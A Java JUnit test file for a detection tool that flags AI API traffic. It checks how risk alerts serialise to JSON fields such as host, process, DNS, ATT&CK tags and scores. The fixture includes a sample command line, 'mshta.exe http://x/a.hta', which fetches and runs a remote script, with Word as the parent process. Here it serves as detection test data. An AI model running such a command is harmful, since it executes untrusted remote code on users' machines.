package dev.aiapiwatch.io;

import static dev.aiapiwatch.testing.TestEvents.HOST_A;
import static dev.aiapiwatch.testing.TestEvents.T0;
import static dev.aiapiwatch.testing.TestEvents.T0_PLUS_10M;
import static dev.aiapiwatch.testing.TestEvents.T0_PLUS_1H;
import static dev.aiapiwatch.testing.TestEvents.T0_PLUS_30S;
import static dev.aiapiwatch.testing.TestEvents.USER_SID;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import dev.aiapiwatch.risk.RiskRecord;
import org.junit.jupiter.api.Test;

class RiskRecordJsonTest {

    private static RiskRecord fullRecord() {
        RiskRecord record = new RiskRecord();
        record.id = "0123456789abcdef0123456789abcdef";
        record.firstSeen = T0_PLUS_30S;
        record.lastSeen = T0_PLUS_10M + 5;
        record.hostId = HOST_A;
        record.hostName = "WS-0042";
        record.hostOsType = "windows";
        record.userId = USER_SID;
        record.userName = "alex";
        record.processName = "mshta.exe";
        record.parentProcessName = "winword.exe";
        record.domain = "api.openai.com";
        record.provider = "OpenAI";
        record.processCategory = "LOLBin";
        record.riskWeight = 3;
        record.dnsQueryCount = 12;
        record.commandLineSamples =
                new String[] {"mshta.exe http://x/a.hta", "mshta.exe \"line one\nline two\""};
        record.windowStart = T0;
        record.windowEnd = T0_PLUS_1H;
        record.ruleVersion = "wl-0123456789ab";
        record.attribution = "process";
        record.confirmedConnections = 2;
        record.riskScore = 95;
        record.severity = 99;
        record.riskFactors = new String[] {"category_weight", "suspicious_parent"};
        return record;
    }

    private static JsonNode write(RiskRecord record) throws JsonProcessingException {
        return Json.mapper().readTree(RiskRecordJson.toJson(record));
    }

    @Test
    void recordIdAndTimes() throws JsonProcessingException {
        JsonNode json = write(fullRecord());

        assertThat(json.path("id").asText()).isEqualTo("0123456789abcdef0123456789abcdef");
        assertThat(json.path("@timestamp").asText()).isEqualTo("2026-11-02T10:00:30.000Z");
        assertThat(json.at("/event/start").asText()).isEqualTo("2026-11-02T10:00:30.000Z");
        assertThat(json.at("/event/end").asText()).isEqualTo("2026-11-02T10:10:00.005Z");
    }

    @Test
    void recordEventFields() throws JsonProcessingException {
        JsonNode json = write(fullRecord());

        assertThat(json.at("/event/kind").asText()).isEqualTo("alert");
        assertThat(json.at("/event/category/0").asText()).isEqualTo("network");
        assertThat(json.at("/event/type/0").asText()).isEqualTo("protocol");
        assertThat(json.at("/event/dataset").asText()).isEqualTo("ai_api_watch.risk");
    }

    @Test
    void recordHostUserProcessDns() throws JsonProcessingException {
        JsonNode json = write(fullRecord());

        assertThat(json.at("/host/id").asText()).isEqualTo(HOST_A);
        assertThat(json.at("/host/name").asText()).isEqualTo("WS-0042");
        assertThat(json.at("/host/os/type").asText()).isEqualTo("windows");
        assertThat(json.at("/user/id").asText()).isEqualTo(USER_SID);
        assertThat(json.at("/user/name").asText()).isEqualTo("alex");
        assertThat(json.at("/process/name").asText()).isEqualTo("mshta.exe");
        assertThat(json.at("/process/parent/name").asText()).isEqualTo("winword.exe");
        assertThat(json.at("/dns/question/name").asText()).isEqualTo("api.openai.com");
    }

    @Test
    void recordThreatAndRule() throws JsonProcessingException {
        JsonNode json = write(fullRecord());

        assertThat(json.at("/threat/framework").asText()).isEqualTo("MITRE ATT&CK");
        assertThat(json.at("/threat/tactic/id/0").asText()).isEqualTo("TA0042");
        assertThat(json.at("/threat/technique/id/0").asText()).isEqualTo("T1588");
        assertThat(json.at("/threat/technique/subtechnique/id/0").asText()).isEqualTo("T1588.007");
        assertThat(json.at("/threat/technique/subtechnique/name/0").asText())
                .isEqualTo("Artificial Intelligence");
        assertThat(json.at("/rule/version").asText()).isEqualTo("wl-0123456789ab");
        assertThat(json.at("/rule/name").asText()).isNotBlank();
    }

    @Test
    void recordAiApiFigures() throws JsonProcessingException {
        JsonNode json = write(fullRecord());

        JsonNode aiApi = json.path("ai_api");
        assertThat(aiApi.path("provider").asText()).isEqualTo("OpenAI");
        assertThat(aiApi.path("process_category").asText()).isEqualTo("LOLBin");
        assertThat(aiApi.path("risk_weight").isInt()).isTrue();
        assertThat(aiApi.path("risk_weight").asInt()).isEqualTo(3);
        assertThat(aiApi.path("dns_query_count").asLong()).isEqualTo(12);
        assertThat(aiApi.path("command_line_samples").size()).isEqualTo(2);
        assertThat(aiApi.at("/command_line_samples/1").asText())
                .isEqualTo("mshta.exe \"line one\nline two\"");
        assertThat(aiApi.at("/window/start").asText()).isEqualTo("2026-11-02T10:00:00.000Z");
        assertThat(aiApi.at("/window/end").asText()).isEqualTo("2026-11-02T11:00:00.000Z");
        assertThat(aiApi.path("attribution").asText()).isEqualTo("process");
        assertThat(aiApi.path("confirmed_connections").asLong()).isEqualTo(2);
        assertThat(aiApi.path("risk_factors"))
                .extracting(JsonNode::asText)
                .containsExactly("category_weight", "suspicious_parent");
    }

    @Test
    void recordScoreAndSeverity() throws JsonProcessingException {
        JsonNode json = write(fullRecord());

        assertThat(json.at("/event/risk_score").asInt()).isEqualTo(95);
        assertThat(json.at("/event/severity").asInt()).isEqualTo(99);
    }

    @Test
    void unattributedRecordWithoutProcessName() throws JsonProcessingException {
        RiskRecord record = fullRecord();
        record.processName = null;
        record.parentProcessName = null;
        record.attribution = "unattributed";
        record.riskFactors = new String[0];

        JsonNode json = write(record);

        assertThat(json.has("process")).isFalse();
        assertThat(json.at("/ai_api/attribution").asText()).isEqualTo("unattributed");
        assertThat(json.at("/ai_api/risk_factors").isArray()).isTrue();
        assertThat(json.at("/ai_api/risk_factors").size()).isZero();
    }

    @Test
    void recordWrittenAsOneLine() {
        String json = RiskRecordJson.toJson(fullRecord());

        assertThat(json).doesNotContain("\n");
        assertThat(json).doesNotContain("\r");
    }

    @Test
    void absentOptionalFieldsOmitted() throws JsonProcessingException {
        RiskRecord record = fullRecord();
        record.hostName = null;
        record.hostOsType = null;
        record.userId = null;
        record.userName = null;
        record.parentProcessName = null;
        record.ruleVersion = null;

        JsonNode json = write(record);

        assertThat(json.path("host").has("name")).isFalse();
        assertThat(json.path("host").has("os")).isFalse();
        assertThat(json.at("/host/id").asText()).isEqualTo(HOST_A);
        assertThat(json.has("user")).isFalse();
        assertThat(json.path("process").has("parent")).isFalse();
        assertThat(json.path("rule").has("version")).isFalse();
    }

    @Test
    void userNameOnlyKeepsUser() throws JsonProcessingException {
        RiskRecord record = fullRecord();
        record.userId = null;

        JsonNode json = write(record);

        assertThat(json.path("user").has("id")).isFalse();
        assertThat(json.at("/user/name").asText()).isEqualTo("alex");
    }

    @Test
    void confirmedConnectionsAndDestinations() throws JsonProcessingException {
        RiskRecord record = fullRecord();
        record.confirmedConnections = 3;
        record.destinationIps = new String[] {"104.18.32.47", "172.66.0.243"};

        JsonNode json = write(record);

        assertThat(json.at("/ai_api/confirmed_connections").isIntegralNumber()).isTrue();
        assertThat(json.at("/ai_api/confirmed_connections").asLong()).isEqualTo(3);
        assertThat(json.at("/destination/ip").isArray()).isTrue();
        assertThat(json.at("/destination/ip").size()).isEqualTo(2);
        assertThat(json.at("/destination/ip/0").asText()).isEqualTo("104.18.32.47");
        assertThat(json.at("/destination/ip/1").asText()).isEqualTo("172.66.0.243");
    }

    @Test
    void unconfirmedRecordWritesZeroAndNoDestination() throws JsonProcessingException {
        RiskRecord record = fullRecord();
        record.confirmedConnections = 0;
        record.destinationIps = new String[0];

        JsonNode json = write(record);

        assertThat(json.at("/ai_api/confirmed_connections").isIntegralNumber()).isTrue();
        assertThat(json.at("/ai_api/confirmed_connections").asLong()).isZero();
        assertThat(json.has("destination")).isFalse();
    }
}
